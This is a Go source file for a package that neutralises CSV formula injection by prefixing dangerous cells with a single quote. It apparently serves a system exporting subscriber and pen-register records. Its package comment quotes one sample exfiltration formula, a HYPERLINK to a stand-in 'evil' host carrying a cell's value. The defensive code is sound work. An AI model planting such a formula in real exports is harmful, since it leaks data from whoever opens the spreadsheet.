// Package csvsafe writes CSV that cannot attack the person who opens it.
//
// A spreadsheet runs a cell that starts with "=", "+", "-" or "@" as a
// formula, and some also after a leading tab or carriage return, so a
// subscriber name such as =HYPERLINK("http://evil/?"&A1) would run when an
// officer opens a package's records. Following OWASP's advice on CSV
// injection, every such cell is prefixed with a single quote, which the
// spreadsheet shows as text and does not evaluate. The value is otherwise
// unchanged, and the JSON files beside every CSV keep the exact values.
//
// Every CSV envelope writes goes through this package (records in
// packages, the transparency report in all its shapes, the CLI's
// listings), so the rule lives in one place.
package csvsafe

import (
	"encoding/csv"
	"io"
)

// Prefix is what a dangerous cell is prefixed with.
const Prefix = "'"

// Dangerous reports whether a spreadsheet could read s as a formula: it
// starts with one of = + - @, a tab or a carriage return.
func Dangerous(s string) bool { return s != "" && DangerousFirst(s[0]) }

// DangerousFirst reports whether a cell starting with byte c is
// dangerous. Writers that append bytes by hand (the pen register's hot
// path) use it to write Prefix themselves.
func DangerousFirst(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// Cell returns s as it is safe to write in a CSV cell.
func Cell(s string) string {
	if Dangerous(s) {
		return Prefix + s
	}
	return s
}

// Writer is a csv.Writer that neutralises every cell it writes.
type Writer struct {
	w   *csv.Writer
	buf []string // reused for records that need a change
}

// NewWriter returns a Writer writing to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, neutralising its dangerous cells. The record
// itself is not changed, and a record that needs no change is written
// without a copy (the records of a pen register run to millions of rows).
func (w *Writer) Write(record []string) error {
	for i, v := range record {
		if Dangerous(v) {
			w.buf = append(w.buf[:0], record...)
			for j := i; j < len(record); j++ {
				w.buf[j] = Cell(record[j])
			}
			return w.w.Write(w.buf)
		}
	}
	return w.w.Write(record)
}

// WriteAll writes every record and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() { w.w.Flush() }

// Error reports any error of a previous Write or Flush.
func (w *Writer) Error() error { return w.w.Error() }
